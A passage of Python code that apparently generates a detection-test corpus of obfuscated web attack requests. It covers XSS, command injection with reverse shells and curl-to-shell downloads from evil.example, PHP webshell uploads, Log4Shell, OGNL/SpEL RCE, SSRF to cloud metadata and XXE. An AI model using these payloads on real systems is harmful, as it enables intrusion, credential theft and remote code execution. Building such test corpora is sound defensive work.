    g("iis-u-encoding", "/Search.aspx", "q=" + u_enc("<script>alert(1)</script>", only="<>/"))
    g("overlong-utf8", "/search", "q=" + overlong("<script>alert(1)</script>", only="<>/"))
    g("fullwidth-nfkc", "/search", "q=" + Q(fullwidth("<script>", only="<>") + "alert(1)" + fullwidth("</script>", only="<>")))
    g("small-form-variants", "/search", "q=" + Q("\ufe64img src=x onerror=alert(1)\ufe65"))
    c.form("utf7-charset", "/guestbook/sign",
           "name=" + QP("Ann") + "&msg=" + QP(utf7("<script>alert(document.cookie)</script>")),
           ctype="application/x-www-form-urlencoded; charset=utf-7")
    c.json("json-unicode-escaped-tags", "/api/profile",
           r'{"displayName":"\u003cimg src=x onerror=alert(document.domain)\u003e","locale":"en"}', method="PUT")
    g("nested-strip", "/search", "q=" + Q("<scr<script>ipt>alert(1)</scr</script>ipt>"))
    g("atob-eval", "/search", "q=" + Q("<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"))
    g("regex-source-concat", "/search", "q=" + Q("<img src=x onerror=top[/al/.source+/ert/.source](1)>"))
    g("svg-script-entities", "/search", "q=" + Q("<svg><script>&#97;&#108;&#101;&#114;&#116;(1)</script></svg>"))
    g("svg-animate-href", "/profile", "website=" + Q('<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click me</text></a></svg>'))
    g("js-context-breakout", "/widget.js", "callback=" + Q("';alert(String.fromCharCode(88,83,83))//"))
    g("script-close-breakout", "/page", "name=" + Q("</script><svg onload=alert(1)>"))
    g("slash-separators", "/search", "q=" + Q("<input/autofocus/onfocus=alert(1)>"))
    g("formfeed-separator", "/search", "q=%3Csvg%0conload%3Dalert(1)%3E")
    g("css-import", "/profile", "css=" + Q("</style><style>@import'//evil.example/x.css';</style>"))
    g("css-attr-exfil", "/profile", "theme=" + Q("</style><style>input[name=csrf][value^=a]{background:url(https://evil.example/leak?c=a)}</style>"))
    g("data-uri-iframe", "/search", "q=" + Q('<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+">'))
    g("base-href", "/search", "q=" + Q('<base href="//evil.example/">'))
    g("meta-refresh", "/search", "q=" + Q('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'))
    g("angular-csti", "/search", "q=" + Q("{{constructor.constructor('alert(document.cookie)')()}}"))
    g("referer-reflected", "/404", "", headers=[["Referer", 'https://evil.example/"><script>alert(document.cookie)</script>']])
    g("user-agent-stored", "/", "", headers=[["User-Agent", "<script src=//evil.example/x.js></script>"]])
    c.mp("multipart-filename", "/upload/photo", [
        {"name": "album", "value": "summer"},
        {"name": "photo", "filename": '"><img src=x onerror=alert(document.domain)>.png', "ctype": "image/png", "value": "\x89PNG\r\n\x1a\n"}])
    c.mp("svg-upload", "/upload/logo", [
        {"name": "logo", "filename": "logo.svg", "ctype": "image/svg+xml",
         "value": '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                  '<script><![CDATA[alert(document.domain)]]></script></svg>'}])
    c.json("json-key", "/api/settings", '{"theme":"dark","<img src=x onerror=alert(1)>":true}', method="PATCH")
    g("cookie-reflected", "/dashboard", "", headers=[["Cookie", 'theme="><script>alert(document.cookie)</script>; sid=3f9a2c']])
    g("hpp-split", "/search", "a=" + Q("<svg/*") + "&b=" + Q("*/onload=alert(1)>"))
    g("attribute-breakout", "/search", "q=" + Q('" autofocus onfocus="alert(document.domain)'))
    g("js-unicode-handler", "/search", "q=" + Q("<img src=x onerror=\\u0061lert(1)>"))
    g("pct-encoded-letters", "/search", "q=%3Cimg%20src=x%20%6f%6E%65rror=alert(1)%3E")
    g("script-throw", "/search", "q=" + Q("<script>onerror=alert;throw 1</script>"))
    c.json("markdown-js-link", "/api/issues/17/comments", {"body": "Please check [the docs](javascript:alert(document.cookie))"})
    c.json("markdown-img-breakout", "/api/issues/17/comments", {"body": '![logo](https://x.example/a.png"onerror="alert(1))'})
    g("xforwardedhost-poison", "/", "", headers=[["X-Forwarded-Host", 'cdn.example.com"><script>alert(1)</script>']])
    bnd = boundary(r)
    pad = "A" * 60_000
    c.mp("long-padding-multipart", "/support/ticket", [
        {"name": "attachment", "filename": "log.txt", "ctype": "text/plain", "value": pad},
        {"name": "subject", "value": "<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>"}], bnd=bnd)
    xs = "<svg onload=alert(document.domain)>"
    c.raw("ibm037-body", "POST", "/Guestbook.aspx",
          [["Content-Type", "application/x-www-form-urlencoded; charset=ibm037"]],
          b"&".join(k.encode("cp037") + b"=" + v.encode("cp037") for k, v in [("name", "Ann"), ("msg", xs)]))
    return c.items


def gen_rce():
    c = Ctx("attacks-rce", "rce", "detect", WEB_HOSTS + ["router.example.net", "nas.example.lan"])
    r = c.rng
    g = c.get
    ip = lambda p, safe="": "ip=" + Q("127.0.0.1" + p, safe=safe)
    g("ifs-plain", "/tools/ping.php", ip(";cat$IFS/etc/passwd", safe="$/"))
    g("ifs-braces-newline", "/tools/ping.php", "ip=127.0.0.1%0acat${IFS}/etc/passwd")
    g("quotes-inside-words", "/tools/ping.php", ip("|c'a't /e\"t\"c/pa''ss''wd"))
    g("glob-question", "/cgi-bin/diag.cgi", "host=" + Q("8.8.8.8;/???/c?t /???/p??s??", safe="/"))
    g("base64-pipe-sh", "/api/convert", "file=" + Q("a.png;$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh)"), api=True, host="api.example.com")
    g("backtick-filename", "/convert", "file=" + Q("`curl -s evil.example/s.sh|sh`.jpg"))
    g("brace-expansion", "/tools/ping.php", ip(";{cat,/etc/passwd}"))
    g("redirect-input", "/tools/ping.php", ip(";cat</etc/passwd"))
    g("path-substring", "/tools/ping.php", ip(";cat ${PATH:0:1}etc${PATH:0:1}passwd"))
    g("backslash-in-words", "/tools/ping.php", ip(";c\\at /et\\c/pas\\swd"))
    g("dollar-at", "/tools/ping.php", ip(";w$@hoami;i$@d"))
    g("empty-subst", "/tools/ping.php", ip(";wh$()oami;who``ami"))
    g("printf-hex", "/tools/nslookup", "domain=" + Q("example.com;$(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64')"))
    g("var-concat", "/tools/ping.php", ip(";a=c;b=at;f=/etc/passwd;$a$b $f"))
    g("backslash-newline", "/tools/ping.php", "ip=127.0.0.1;ca%5c%0at%20/etc/pa%5c%0asswd")
    g("reverse-shell-ifs", "/tools/ping.php", ip(";bash${IFS}-c${IFS}'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"))
    g("ansi-c-quoting", "/tools/ping.php", ip(";X=$'\\x2fetc\\x2fpasswd';cat $X"))
    g("rev-herestring", "/tools/ping.php", ip(";rev<<<'dwssap/cte/ tac'|sh"))
    g("echo-base64-bash", "/tools/ping.php", ip(";echo${IFS}aWQ=|base64${IFS}-d|bash"))
    g("undefined-vars", "/tools/ping.php", ip(";cat$u /etc$u/passwd$u"))
    g("crlf-separator", "/tools/traceroute", "target=1.1.1.1%0d%0aid")
    g("double-urlencoded", "/tools/ping.php", "ip=127.0.0.1%253Bid%253Buname%2520-a")
    g("windows-caret", "/admin/Diag.aspx", "host=" + Q("localhost & p^o^w^e^r^s^h^e^l^l -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\""))
    enc = base64.b64encode("whoami; Get-Content C:\\Windows\\win.ini".encode("utf-16-le")).decode()
    g("powershell-enc", "/admin/Diag.aspx", "host=" + Q("localhost | powershell -NoP -W Hidden -enc " + enc))
    g("cmd-set-call", "/admin/Diag.aspx", "host=" + Q("localhost & set x=who&& set y=ami&& call %x%%y%"))
    g("cmd-delayed-expansion", "/admin/Diag.aspx", "host=" + Q('localhost & cmd /v:on /c "set a=ty&&set b=pe&&call !a!!b! C:\\Windows\\win.ini"'))
    g("shellshock-obfuscated", "/cgi-bin/status", "",
      headers=[["User-Agent", "() { _; } >_[$($())] { echo; /bin/bash -c 'cat /etc/passwd'; }"]])
    c.mp("multipart-filename-cmd", "/upload/image", [
        {"name": "image", "filename": "a.jpg;curl${IFS}evil.example|sh;.jpg", "ctype": "image/jpeg", "value": "\xff\xd8\xff\xe0"}])
    c.json("json-unicode-newline", "/api/network/ping", r'{"host":"8.8.8.8\u000aid\u000auname -a","count":1}')
    c.json("tar-arg-injection", "/api/backup/create",
           {"archive": "backup.tar", "options": "--checkpoint=1 --checkpoint-action=exec=sh${IFS}/tmp/s.sh"})
    g("python-eval", "/calc", "expr=" + Q("__import__('os').popen('id').read()"))
    g("node-eval", "/api/calc", "expr=" + Q("this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
      api=True, host="api.example.com")
    c.req("apache-path-traversal-cgi", "POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
          body="echo Content-Type: text/plain; echo; id", ctype="text/plain")
    c.raw("chunked-cmd", "POST", "/tools/ping.php",
          [["Content-Type", "application/x-www-form-urlencoded"], ["Transfer-Encoding", "chunked"]],
          chunked(["ip=127.0.0.1%3B", "ca", "t+%2Fet", "c%2Fpas", "swd"]), cl=False)
    c.form("long-padding", "/tools/ping.php",
           "note=" + QP(junk_text(r, 70_000)) + "&ip=" + QP("127.0.0.1;cat /etc/passwd"))
    c.form("form-as-octet-stream", "/tools/ping.php", "ip=" + QP("127.0.0.1|id"), ctype="application/octet-stream")
    return c.items


def gen_lfi():
    c = Ctx("attacks-lfi", "lfi", "detect", WEB_HOSTS)
    r = c.rng
    g = c.get
    g("dot-dot-slash-doubled", "/index.php", "page=....//....//....//....//etc/passwd")
    g("encoded-slash", "/download", "file=..%2f..%2f..%2f..%2fetc%2fpasswd")
    g("encoded-dots", "/download", "file=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd")
    g("double-encoded", "/download", "file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd")
    g("overlong-slash", "/static", "f=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd")
    g("overlong-backslash", "/scripts/view.asp", "f=..%c1%9c..%c1%9c..%c1%9cboot.ini")
    g("iis-u-fullwidth", "/scripts/view.asp", "f=%uff0e%uff0e%u2215%uff0e%uff0e%u2215windows%u2215win.ini")
    g("tomcat-path-param", "/app/..;/..;/WEB-INF/web.xml", "")
    g("spring-double-encoded-path", "/static/..%252f..%252f..%252fetc/passwd", "")
    g("null-byte-extension", "/image.php", "name=../../../../etc/passwd%00.png")
    g("backslash-windows", "/download.aspx", "file=..%5c..%5c..%5c..%5cwindows%5cwin.ini")
    g("fullwidth-nfkc", "/download", "file=" + Q("．．／．．／．．／etc／passwd"))
    g("nginx-off-by-slash", "/assets../config/database.yml", "")
    g("path-truncation", "/index.php", "page=" + Q("../../../../etc/passwd" + "/." * 2100, safe="/"))
    g("web-config", "/Download.aspx", "file=..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config")
    g("iis-double-percent", "/download.asp", "file=..%%32%66..%%32%66..%%32%66windows%%32%66win.ini")
    c.mp("multipart-filename-write", "/upload", [
        {"name": "file", "filename": "../../../../var/www/html/s.php", "ctype": "application/octet-stream",
         "value": "GIF89a"}])
    c.mp("rfc5987-filename", "/upload", [
        {"name": "file", "disp": "form-data; name=\"file\"; filename=\"cron.txt\"; filename*=UTF-8''..%2F..%2F..%2F..%2Fetc%2Fcron.d%2Fbackup",
         "ctype": "text/plain", "value": "* * * * * root curl -s evil.example/x|sh"}])
    c.json("json-unicode-slash", "/api/templates/render", r'{"template":"..\u002f..\u002f..\u002f..\u002fetc\u002fpasswd","data":{}}')
    g("cookie-lang", "/index.php", "", headers=[["Cookie", "PHPSESSID=jr2kq8a1; lang=../../../../../etc/passwd%00"]])
    g("file-scheme", "/index.php", "page=file%3A%2F%2F%2Fetc%2Fpasswd")
    g("windows-absolute", "/viewlog.aspx", "log=C:%5cWindows%5cwin.ini")
    g("header-x-original-url", "/index", "", headers=[["X-Original-URL", "/../../../../etc/passwd"]])
    return c.items


def gen_rfi():
    c = Ctx("attacks-rfi", "rfi", "detect", WEB_HOSTS)
    g = c.get
    g("mixed-case-scheme", "/index.php", "page=hTtP://evil.example/shell.txt?")
    g("unc-path", "/index.php", "page=" + Q("\\\\evil.example\\share\\shell.php"))
    g("double-encoded-null", "/index.php", "lang=http:%252f%252fevil.example%252fs.txt%2500")
    g("ftp", "/index.php", "inc=ftp://anonymous:x@evil.example/pub/shell.txt")
    g("pastebin-raw", "/view.php", "module=https://pastebin.com/raw/Xa1b2C3d")
    g("decimal-ip", "/index.php", "page=http://3325256711/shell.txt?")
    g("encoded-question", "/index.php", "file=HtTpS://evil.example/x.php%3f")
    c.form("post-hash-suffix", "/admin/theme.php", form([("include", "http://evil.example/c99.txt#"), ("save", "1")]))
    g("fully-encoded", "/index.php", "page=" + pct_all("http://evil.example/shell.txt"))
    g("overlong-slashes", "/index.php", "page=http:" + overlong("//evil.example/shell.txt?", only="/"))
    g("cookie-template", "/index.php", "", headers=[["Cookie", "template=http://evil.example/tpl.txt?; PHPSESSID=o1m9qz"]])
    return c.items


def gen_php():
    c = Ctx("attacks-php", "php", "detect", WEB_HOSTS)
    r = c.rng
    g = c.get
    g("filter-mixed-case", "/index.php", "page=PhP://FilTer/convert.base64-encode/resource=config")
    g("filter-chain", "/index.php", "page=" + Q("php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.UTF8.UTF16|convert.iconv.WINDOWS-1258.UTF32LE|convert.iconv.ISIRI3342.ISO-IR-157|convert.base64-decode/resource=php://temp", safe="/:|"))
    g("data-wrapper", "/index.php", "page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==&c=id")
    c.req("php-input", "POST", "/index.php?page=php://input", body="<?php system('id'); ?>",
          ctype="application/x-www-form-urlencoded")
    g("expect-wrapper", "/index.php", "page=expect://id")
    g("phar-wrapper", "/image.php", "file=phar://./uploads/avatar.jpg/test.txt")
    c.mp("short-tag-backtick", "/upload", [
        {"name": "file", "filename": "img.phtml", "ctype": "image/gif", "value": "GIF89a<?=`$_GET[0]`?>"}])
    c.mp("htaccess-upload", "/upload", [
        {"name": "file", "filename": ".htaccess", "ctype": "text/plain",
         "value": "AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file avatar.jpg"}])
    c.mp("phar-eval-upload", "/upload", [
        {"name": "file", "filename": "avatar.pHp5", "ctype": "image/jpeg", "value": "<?php @eval($_POST['k']); ?>"}])
    c.mp("xor-webshell", "/upload", [
        {"name": "file", "filename": "x.php", "ctype": "image/png",
         "value": '<?php $_="{"; $_=($_^"<").($_^">;").($_^"/"); ?><?=${\'_\'.$_}["_"](${\'_\'.$_}["__"]);?>'}])
    c.mp("variable-function", "/upload", [
        {"name": "file", "filename": "thumb.php.jpg", "ctype": "image/jpeg",
         "value": "<?php $f='sys'.'tem'; $f($_GET['c']); ?>"}])
    gadget = ('a:1:{i:0;O:+40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";'
              'O:25:"Illuminate\\Bus\\Dispatcher":1:{s:16:"\x00*\x00queueResolver";s:6:"system";}'
              's:8:"\x00*\x00event";O:38:"Illuminate\\Broadcasting\\BroadcastEvent":1:{s:10:"connection";s:2:"id";}}}')
    g("object-injection-plus", "/cart.php", "", headers=[["Cookie", "cart=" + Q(gadget)]])
    g("preg-replace-e", "/tools/replace.php", "pattern=" + Q("/x/e") + "&replacement=" + Q("system('id')") + "&subject=x")
    g("eval-base64", "/debug.php", "code=" + Q("eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));"))
    c.req("cgi-soft-hyphen", "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
          body="<?php echo shell_exec('whoami'); ?>", ctype="application/x-www-form-urlencoded")
    c.req("cgi-dash-d", "POST", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
          body="<?php system('id'); die(); ?>", ctype="application/x-www-form-urlencoded")
    g("call-user-func-split", "/api.php", "action=run&f=" + Q("sys" + "tem") + "&a=" + Q("cat /etc/passwd"))
    return c.items


def gen_java():
    c = Ctx("attacks-java", "java", "detect", WEB_HOSTS + API_HOSTS)
    r = c.rng
    g = c.get
    cb = "c3f1a9.oast.example"
    g("log4shell-lower", "/", "", headers=[["X-Api-Version", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://%s/a}" % cb]])
    g("log4shell-default-value", "/login", "", headers=[["User-Agent", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/o}" % cb]])
    g("log4shell-env-nan", "/search", "q=" + Q("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/x}" % cb))
    g("log4shell-date", "/", "", headers=[["Referer", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s/c}" % cb]])
    g("log4shell-urlencoded", "/search", "q=%24%7Bjndi%3Adns%3A%2F%2F" + cb + "%2Fe%7D")
    g("log4shell-cookie-name", "/", "", headers=[["Cookie", "JSESSIONID=8A1F; ${jndi:ldap://%s/g}=1" % cb]])
    g("log4shell-header-name", "/", "", headers=[["X-${jndi:ldap://%s/h}" % cb, "1"]])
    c.json("log4shell-json-key", "/api/events", '{"event":"click","${jndi:rmi://%s/i}":"x"}' % cb)
    c.json("log4shell-json-unicode", "/api/feedback", r'{"message":"\u0024{jndi:ldap://%s/j}"}' % cb)
    c.mp("log4shell-part-header", "/upload", [
        {"name": "doc", "filename": "cv.pdf", "ctype": "${jndi:ldap://%s/k}" % cb, "value": "%PDF-1.4"}])
    c.req("spel-function-routing", "POST", "/functionRouter", body="hello", ctype="text/plain",
          headers=[["spring.cloud.function.routing-expression",
                    "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwned\")"]])
    c.json("spel-gateway-route", "/actuator/gateway/routes/hacktest",
           {"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {
               "name": "Result", "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],
            "uri": "http://example.com"})
    g("spel-class-forname", "/search", "sort=" + Q("T (java.lang.Class).forName('java.l'+'ang.Runtime').getMethod('exec',T(String)).invoke(T (java.lang.Class).forName('java.l'+'ang.Runtime').getMethod('getRuntime').invoke(null),'id')"))
    g("ognl-content-type", "/struts2-showcase/index.action", "", headers=[["Content-Type",
      "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}"]])
    g("ognl-confluence-unicode", "/" + Q("${(\\u0023a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",\\u0023a))}", safe="(),@") + "/", "")
    c.form("spring4shell-bracket", "/app/greeting", "class%5Bmodule%5D%5BclassLoader%5D.resources.context.parent.pipeline.first.pattern=" + Q("%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }") + "&class%5Bmodule%5D%5BclassLoader%5D.resources.context.parent.pipeline.first.suffix=.jsp&class%5Bmodule%5D%5BclassLoader%5D.resources.context.parent.pipeline.first.directory=webapps%2FROOT")
    c.json("fastjson-unicode-type", "/api/user/update",
           r'{"\u0040\u0074\u0079\u0070\u0065":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://%s/Exploit","autoCommit":true}' % cb)
    c.json("fastjson-hex-L-prefix", "/api/user/update",
           r'{"\x40type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://%s:1099/Obj","autoCommit":true}' % cb)
    c.json("jackson-polymorphic", "/api/jobs", '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://%s/jk"}]' % cb)
    ser = b"\xac\xed\x00\x05sr\x00:org.apache.commons.collections.functors.InvokerTransformer\x87\xe8\xffk{|\xce8\x02\x00\x03[\x00\x05iArgst\x00\x13[Ljava/lang/Object;L\x00\x0biMethodNamet\x00\x12Ljava/lang/String;"
    c.form("java-serialized-viewstate", "/faces/login.xhtml",
           form([("javax.faces.ViewState", base64.b64encode(ser).decode()), ("login:submit", "Sign in")]))
    c.form("el-jsf-injection", "/faces/profile.xhtml",
           form([("name", "#{''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}")]))
    c.xml("xstream-eventhandler", "/api/orders/import",
          '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler">'
          '<target class="java.lang.ProcessBuilder"><command><string>/bin/sh</string><string>-c</string><string>id</string></command></target>'
          '<action>start</action></handler></dynamic-proxy></sorted-set>')
    return c.items


def gen_ssrf():
    c = Ctx("attacks-ssrf", "ssrf", "detect", WEB_HOSTS + API_HOSTS)
    g = c.get
    g("decimal-ip", "/api/fetch", "url=http://2852039166/latest/meta-data/iam/security-credentials/", api=True)
    g("hex-ip", "/api/fetch", "url=http://0xa9fea9fe/latest/meta-data/", api=True)
    g("octal-ip", "/proxy", "url=http://0251.0376.0251.0376/latest/user-data")
    g("nip-io", "/proxy", "url=http://169.254.169.254.nip.io/latest/meta-data/")
    g("ipv6-mapped", "/proxy", "url=http://[::ffff:a9fe:a9fe]/latest/meta-data/")
    g("aws-ipv6-imds", "/proxy", "url=http://[fd00:ec2::254]/latest/meta-data/")
    c.json("gcp-metadata", "/api/webhooks", {"url": "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
                                             "headers": {"Metadata-Flavor": "Google"}})
    g("short-loopback", "/image/fetch", "src=http://127.1:6379/")
    g("userinfo-confusion", "/image/fetch", "src=" + Q("http://cdn.example.com@127.0.0.1:6379/", safe=":/@"))
    g("fragment-confusion", "/image/fetch", "src=" + Q("http://127.0.0.1:11211#@cdn.example.com/", safe=":/@#"))
    g("orange-parser-confusion", "/image/fetch", "src=" + Q("http://1.1.1.1 &@127.0.0.1:25# @cdn.example.com/"))
    g("gopher-redis", "/proxy", "url=gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.7%2F4444%200%3E%261%0A%0A%0D%0A")
    g("enclosed-alphanumerics", "/proxy", "url=" + Q("http://①⑥⑨。②⑤④。①⑥⑨。②⑤④/latest/meta-data/", safe=":/"))
    g("ideographic-dots", "/proxy", "url=" + Q("http://127。0。0。1:8080/admin", safe=":/"))
    g("encoded-host", "/proxy", "url=http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/")
    c.json("azure-metadata", "/api/integrations/test", {"endpoint": "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
                                                        "headers": {"Metadata": "true"}})
    c.json("k8s-api", "/api/webhooks", {"url": "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "events": ["push"]})
    c.req("absolute-uri-routing", "GET", "http://169.254.169.254/latest/meta-data/", host="www.example.org")
    c.req("host-header-internal", "GET", "/admin/", host="localhost:8080",
          headers=[["X-Forwarded-Host", "shop.example.com"]])
    c.json("html-to-pdf-iframe", "/api/invoices/render", {"html": "<h1>Invoice</h1><iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=800 height=800></iframe>"})
    c.xml("svg-image-href", "/api/thumbnails", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://169.254.169.254/latest/meta-data/" width="500" height="500"/></svg>',
          ctype="image/svg+xml")
    return c.items


def gen_xxe():
    c = Ctx("attacks-xxe", "xxe", "detect", WEB_HOSTS + API_HOSTS)
    r = c.rng
    cb = "c3f1a9.oast.example"
    classic = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
               '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
               '<GetOrder><id>&xxe;</id></GetOrder></soap:Body></soap:Envelope>')
    c.xml("soap-classic", "/ws/OrderService", classic, ctype="text/xml; charset=utf-8", headers=[["SOAPAction", '"GetOrder"']])
    c.xml("oob-parameter-entity", "/api/import", '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % dtd SYSTEM "http://CB/evil.dtd"> %dtd; %send;]><data>1</data>'.replace("CB", cb))
    u16 = ('\ufeff<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/shadow">]>\n'
           '<order><note>&x;</note></order>')
    c.raw("utf16be-body", "POST", "/api/orders/xml", [["Content-Type", "application/xml"]], u16.encode("utf-16-be"))
    u7 = '<?xml version="1.0" encoding="UTF-7"?>' + utf7('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')
    c.xml("utf7-body", "/api/orders/xml", u7)
    eb = ('<?xml version="1.0" encoding="IBM037"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<r>&x;</r>')
    c.raw("ibm037-body", "POST", "/ws/legacy", [["Content-Type", "text/xml"]], eb.encode("cp037"))
    c.mp("svg-upload", "/upload/avatar", [
        {"name": "avatar", "filename": "a.svg", "ctype": "image/svg+xml",
         "value": '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
                  '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;</text></svg>'}])
    c.form("xinclude-field", "/product/stock", form([("productId", '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'), ("storeId", "1")]))
    c.xml("xslt-document", "/api/transform", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>',
          ctype="application/xslt+xml")
    c.xml("json-endpoint-as-xml", "/api/v1/users/profile", '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY e SYSTEM "file:///etc/passwd">]><user><name>&e;</name></user>',
          method="PUT", api=True)
    c.xml("public-id", "/feeds/import", '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x PUBLIC "-//W3C//TEXT x//EN" "file:///etc/passwd">]><rss version="2.0"><channel><title>&x;</title></channel></rss>',
          ctype="application/rss+xml")
    c.xml("local-dtd-reuse", "/ws/catalog", '<?xml version="1.0"?>\n<!DOCTYPE message [\n<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
          '<!ENTITY % ISOamso \'\n<!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n<!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n&#x25;eval;\n&#x25;error;\n\'>\n%local_dtd;\n]>\n<message>x</message>',
          ctype="text/xml")
    c.xml("external-dtd-only", "/api/import", '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://%s/x.dtd"><data>&send;</data>' % cb)
    lol = '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    prev = "lol"
    for i in range(1, 10):
        name = "lol%d" % i
        lol += '<!ENTITY %s "%s">\n' % (name, ("&%s;" % prev) * 10)
        prev = name
    lol += ']>\n<lolz>&lol9;</lolz>'
    c.xml("billion-laughs", "/api/import", lol)
    c.xml("xml-as-text-plain", "/api/notes", '<?xml version="1.0"?><!DOCTYPE n [<!ENTITY f SYSTEM "file:///proc/self/environ">]><note>&f;</note>',
          ctype="text/plain")
    c.xml("whitespace-comment-dtd", "/ws/OrderService", '<?xml version="1.0"?>\n<!DOCTYPE\n\tr\n\t[\n<!-- harmless -->\n<!ENTITY\n\t%\n\tx\n\tSYSTEM\n\t"http://CB/p.dtd"\n>\n%x;\n]>\n<r/>'.replace("CB", cb),
          ctype="text/xml")
    saml = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://' + cb + '/saml.dtd">%x;]>'
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.com</saml:Issuer></samlp:Response>')
    c.form("saml-base64", "/saml/acs", form([("SAMLResponse", b64(saml)), ("RelayState", "/dashboard")]))
